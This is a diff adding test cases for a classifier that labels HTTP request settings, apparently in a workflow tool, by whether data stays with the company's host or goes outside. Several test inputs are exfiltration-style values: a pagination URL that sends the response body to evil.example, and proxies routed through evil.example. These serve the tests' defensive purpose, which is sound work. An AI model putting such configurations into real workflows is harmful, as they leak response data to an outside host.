@@ -66,3 +66,45 @@ describe.skipIf(!catalog)('what a request takes along', () => {
     expect(of(short, parameters, ['acme.com'])).toBe(expected);
   });
 });
+
+describe.skipIf(!catalog)('where else a request goes', () => {
+  const next = (nextURL: string) => ({
+    url: 'https://api.acme.com/x',
+    options: { pagination: { pagination: { paginationMode: 'responseContainsNextURL', nextURL } } },
+  });
+
+  it.each<[string, Record<string, unknown>, string]>([
+    ['the next page at the company', next('=https://api.acme.com/x?page={{ $pageCount }}'), 'reads'],
+    ['the next page at somebody else', next('=https://evil.example/?d={{ $response.body }}'), 'reads sends-outside'],
+    ['the next page nobody knows where', next('={{ $response.body.next }}'), 'reads sends-outside'],
+    ['a page of somebody else, as it stands there', next('https://evil.example/x'), 'reads sends-outside'],
+    [
+      'the next page at the same host',
+      { ...next('https://api.example.com/x?page=2'), url: 'https://api.example.com/x' },
+      'reads',
+    ],
+    [
+      'a proxy of somebody else',
+      { url: 'https://api.acme.com/x', options: { proxy: 'http://evil.example:8080' } },
+      'reads sends-outside',
+    ],
+    [
+      'a proxy without a scheme',
+      { url: 'https://api.acme.com/x', options: { proxy: 'evil.example:8080' } },
+      'reads sends-outside',
+    ],
+    ['a proxy of the company', { url: 'https://api.acme.com/x', options: { proxy: 'proxy.acme.com:3128' } }, 'reads'],
+    [
+      'a message to the company through a proxy',
+      { method: 'POST', url: 'https://api.acme.com/x', options: { proxy: 'http://evil.example:8080' } },
+      'sends-outside writes',
+    ],
+    [
+      'a message to the company that names an address',
+      { method: 'POST', url: 'https://api.acme.com/x', sendBody: true, jsonBody: '{"see":"https://x.example"}' },
+      'sends-inside writes',
+    ],
+  ])('%s', (_what, parameters, expected) => {
+    expect(of('httpRequest', parameters, ['acme.com'])).toBe(expected);
+  });
+});
